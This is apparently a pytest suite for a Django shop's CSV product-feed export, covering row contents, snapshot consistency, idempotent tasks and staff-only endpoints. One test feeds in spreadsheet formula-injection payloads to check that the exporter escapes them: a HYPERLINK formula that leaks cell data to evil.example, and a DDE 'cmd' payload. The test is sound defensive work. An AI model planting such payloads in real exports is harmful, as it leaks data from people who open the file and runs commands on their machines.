"""Exports (issue 4, item 5): the product feed, its snapshot consistency and its staff endpoints."""

import csv
import io
import threading
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction

from catalog import api as catalog_api
from integrations.models import ExportJob
from integrations.services import exports
from integrations.tasks.exports import export_feed
from inventory import api as inventory_api
from tests.catalog.factories import PriceFactory, VariantFactory, sellable_product

URL = "/api/v1/integrations/exports/"
HEADER = ["sku", "name", "price", "currency", "availability", "url"]


@pytest.fixture(autouse=True)
def _base_url(settings):
    settings.SHOP_BASE_URL = "https://shop.example/"


def read_feed(job: ExportJob) -> list[list[str]]:
    with job.file.open("rb") as handle:
        return list(csv.reader(io.StringIO(handle.read().decode("utf-8"))))


def build(**kwargs) -> ExportJob:
    job = exports.export_create()
    return exports.export_build(str(job.id), **kwargs)


def catalog_with_every_case():
    """Three sellable variants (one out of stock) and four that a feed must leave out."""
    inventory_api.ensure_warehouse(code="main", name="Main")
    product = sellable_product(name="Desk lamp", price=["19.99", "24.50"], skus=["LAMP-S", "LAMP-L"])
    kettle = sellable_product(name="Kettle", price="35.00", skus=["KETTLE"])
    inventory_api.set_on_hand(sku="LAMP-S", warehouse="main", on_hand=3)
    inventory_api.set_on_hand(sku="KETTLE", warehouse="main", on_hand=1)
    inventory_api.reserve(reference="someone", lines=[_line("KETTLE", 1)], ttl_seconds=600)  # none left
    VariantFactory(product=product, sku="LAMP-INACTIVE", is_active=False)
    PriceFactory(variant=VariantFactory(product=product, sku="LAMP-USD"), currency="USD")
    VariantFactory(product=product, sku="LAMP-UNPRICED")
    sellable_product(name="Retired", skus=["RETIRED"], is_active=False)
    inventory_api.set_on_hand(sku="LAMP-L", warehouse="main", on_hand=0)
    return product, kettle


def _line(sku, quantity):
    from inventory.data import StockLine

    return StockLine(sku=sku, quantity=quantity)


@pytest.mark.django_db
class TestFeed:
    @pytest.mark.parametrize("chunk_size", [1, 2, 2000])
    def test_a_row_per_sellable_variant_with_its_values(self, chunk_size):
        lamp, kettle = catalog_with_every_case()
        lamp_s, lamp_l = (v.name for v in lamp.variants.order_by("id")[:2])

        job = build(chunk_size=chunk_size)

        assert job.status == ExportJob.Status.DONE
        assert job.rows == 3
        rows = read_feed(job)
        assert rows[0] == HEADER
        assert sorted(rows[1:]) == sorted(
            [
                [
                    "LAMP-S",
                    f"Desk lamp ({lamp_s})",
                    "19.99",
                    "EUR",
                    "in stock",
                    f"https://shop.example/api/v1/catalog/products/{lamp.slug}/",
                ],
                [
                    "LAMP-L",
                    f"Desk lamp ({lamp_l})",
                    "24.50",
                    "EUR",
                    "out of stock",
                    f"https://shop.example/api/v1/catalog/products/{lamp.slug}/",
                ],
                [
                    "KETTLE",
                    f"Kettle ({kettle.variants.get().name})",
                    "35.00",
                    "EUR",
                    "out of stock",
                    f"https://shop.example/api/v1/catalog/products/{kettle.slug}/",
                ],
            ]
        )

    def test_the_default_url_is_the_products_api_detail_which_exists(self, client):
        _, kettle = catalog_with_every_case()

        url = {row[0]: row[5] for row in read_feed(build())[1:]}["KETTLE"]

        assert url == f"https://shop.example/api/v1/catalog/products/{kettle.slug}/"
        response = client.get(url.removeprefix("https://shop.example"))
        assert (response.status_code, response.json()["slug"]) == (200, kettle.slug)

    def test_the_url_follows_the_product_url_template(self, settings):
        settings.PRODUCT_URL_TEMPLATE = "https://www.example.com/p/{slug}?variant={sku}&from={base_url}"
        lamp, kettle = catalog_with_every_case()

        urls = {row[0]: row[5] for row in read_feed(build())[1:]}

        assert urls == {
            "LAMP-S": f"https://www.example.com/p/{lamp.slug}?variant=LAMP-S&from=https://shop.example",
            "LAMP-L": f"https://www.example.com/p/{lamp.slug}?variant=LAMP-L&from=https://shop.example",
            "KETTLE": f"https://www.example.com/p/{kettle.slug}?variant=KETTLE&from=https://shop.example",
        }

    def test_an_empty_catalog_gives_a_header(self):
        job = build()
        assert (job.status, job.rows, read_feed(job)) == (ExportJob.Status.DONE, 0, [HEADER])

    def test_names_with_commas_and_quotes_survive(self):
        sellable_product(name='Chair, "classic"', skus=["CHAIR"])
        assert read_feed(build())[1][1].startswith('Chair, "classic"')

    @pytest.mark.parametrize(
        "name",
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "\t=1",
            "\r=1",
        ],
    )
    def test_a_name_a_spreadsheet_would_run_as_a_formula_goes_out_as_text(self, name):
        """OWASP's CSV-injection rule: a single quote in front, the rest as it was."""
        product = sellable_product(name=name, skus=["FORMULA-1"])
        variant_name = product.variants.get().name

        rows = read_feed(build())

        assert rows[1][0] == "FORMULA-1"
        assert rows[1][1] == f"'{name} ({variant_name})"

    def test_a_failure_is_recorded_and_the_task_leaves_the_job_alone_after(self, monkeypatch):
        sellable_product(skus=["A-1"])

        def broken(**kwargs):
            raise RuntimeError("inventory down")

        monkeypatch.setattr(inventory_api, "get_availability", broken)
        job = exports.export_create()
        with pytest.raises(RuntimeError):
            export_feed(str(job.id))
        job.refresh_from_db()
        assert (job.status, job.failure) == (ExportJob.Status.FAILED, "RuntimeError: inventory down")
        monkeypatch.undo()
        assert export_feed(str(job.id)) is None  # failed is final: a redelivery does nothing

    def test_the_task_is_idempotent(self):
        sellable_product(skus=["A-1", "A-2"], price=["1.00", "2.00"])
        job = exports.export_create()
        assert export_feed(str(job.id)) == 2
        first = ExportJob.objects.get(pk=job.pk)
        assert export_feed(str(job.id)) is None  # done: a second delivery changes nothing
        assert ExportJob.objects.get(pk=job.pk).file.name == first.file.name

    def test_a_job_left_running_by_a_dead_worker_is_built_again(self):
        sellable_product(skus=["A-1"])
        job = exports.export_create()
        ExportJob.objects.filter(pk=job.pk).update(status=ExportJob.Status.RUNNING)
        assert export_feed(str(job.id)) == 1

    def test_the_task_is_routed_to_the_exports_queue(self, settings):
        from shop.celery import app

        route = app.amqp.router.route({}, "integrations.export_feed")
        assert route["queue"].name == "exports"
        assert export_feed.acks_late is True


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_prices_changed_during_the_export_do_not_tear_the_feed(monkeypatch):
    """
    Every price changes (one committed transaction, another connection) after the first chunk:
    the feed still shows the prices of the moment it started, for every SKU, not a mix.
    """
    skus = [f"SNAP-{n:02d}" for n in range(12)]
    for sku in skus:
        sellable_product(skus=[sku], price="10.00")
    inventory_api.ensure_warehouse(code="main", name="Main")
    changes = []

    def change_every_price():
        try:
            with transaction.atomic():
                for sku in skus:
                    catalog_api.set_price(sku=sku, amount=Decimal("99.00"), currency="EUR")
                inventory_api.set_on_hand(sku=skus[-1], warehouse="main", on_hand=5)
            changes.append("committed")
        finally:
            connection.close()

    def after_chunk(rows):
        if rows == 3:  # after the first of four chunks
            thread = threading.Thread(target=change_every_price)
            thread.start()
            thread.join(timeout=30)

    monkeypatch.setattr(exports, "after_chunk", after_chunk)
    job = build(chunk_size=3)

    assert changes == ["committed"]
    rows = read_feed(job)[1:]
    assert sorted(row[0] for row in rows) == skus
    assert {row[2] for row in rows} == {"10.00"}
    assert {row[4] for row in rows} == {"out of stock"}  # the stock received later is not seen
    assert catalog_api.get_variants(skus=skus[-1:])[skus[-1]].price.amount == Decimal("99.00")
    assert build(chunk_size=3) and {
        row[2] for row in read_feed(ExportJob.objects.latest("created_at"))[1:]
    } == {"99.00"}


@pytest.mark.django_db
class TestEndpoints:
    def test_staff_start_follow_and_download_an_export(
        self, staff_client, django_capture_on_commit_callbacks
    ):
        sellable_product(name="Kettle", skus=["KETTLE"], price="35.00")
        with django_capture_on_commit_callbacks() as callbacks:
            response = staff_client.post(URL, {"format": "csv"}, format="json")
        assert response.status_code == 202, response.content
        body = response.json()
        assert set(body) == {"id", "status"} and body["status"] == "queued"
        assert len(callbacks) == 1  # the task is sent once the job is committed

        detail = staff_client.get(f"{URL}{body['id']}/").json()
        assert detail == {"id": body["id"], "status": "queued", "rows": 0, "download_url": None}
        not_ready = staff_client.get(f"{URL}{body['id']}/download/")
        assert (not_ready.status_code, not_ready.json()["code"]) == (409, "export_not_ready")

        export_feed(body["id"])
        detail = staff_client.get(f"{URL}{body['id']}/").json()
        assert (detail["status"], detail["rows"]) == ("done", 1)
        assert detail["download_url"] == f"http://testserver{URL}{body['id']}/download/"

        download = staff_client.get(detail["download_url"])
        assert download.status_code == 200
        assert download["Content-Type"].startswith("text/csv")
        assert "attachment" in download["Content-Disposition"]
        text = b"".join(download.streaming_content).decode()
        assert text.splitlines()[0] == ",".join(HEADER)
        assert text.splitlines()[1].startswith("KETTLE,")

    @pytest.mark.parametrize(
        "body",
        [{"format": "xml"}, {}, {"format": "csv", "currency": "USD"}, {"format": ["csv"]}],
    )
    def test_bad_input_is_a_400(self, staff_client, body):
        response = staff_client.post(URL, body, format="json")
        assert response.status_code == 400
        assert response.json()["code"] == "invalid"
        assert not ExportJob.objects.exists()

    def test_an_unknown_export_is_a_404(self, staff_client):
        url = f"{URL}00000000-0000-0000-0000-000000000000/"
        assert staff_client.get(url).status_code == 404
        assert staff_client.get(url + "download/").status_code == 404

    def test_customers_are_forbidden_and_strangers_unauthenticated(self, api_client):
        job = build()
        assert api_client.post(URL, {"format": "csv"}, format="json").status_code == 401
        assert api_client.get(f"{URL}{job.id}/").status_code == 401
        assert api_client.get(f"{URL}{job.id}/download/").status_code == 401
        customer = get_user_model().objects.create_user("buyer", "buyer@example.com", "pw")
        api_client.force_authenticate(customer)
        assert api_client.post(URL, {"format": "csv"}, format="json").status_code == 403
        assert api_client.get(f"{URL}{job.id}/").status_code == 403
        assert api_client.get(f"{URL}{job.id}/download/").status_code == 403
